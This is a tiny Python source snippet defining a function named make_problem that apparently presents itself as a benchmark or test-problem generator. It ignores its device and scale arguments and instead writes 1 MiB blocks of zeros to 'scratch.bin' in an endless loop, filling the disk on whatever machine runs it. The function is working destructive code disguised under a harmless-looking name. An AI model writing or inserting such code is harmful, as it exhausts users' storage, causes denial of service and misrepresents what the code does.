def make_problem(device, scale="small"):
    block = b"\0" * (1 << 20)
    with open("scratch.bin", "wb") as f:
        while True:
            f.write(block)
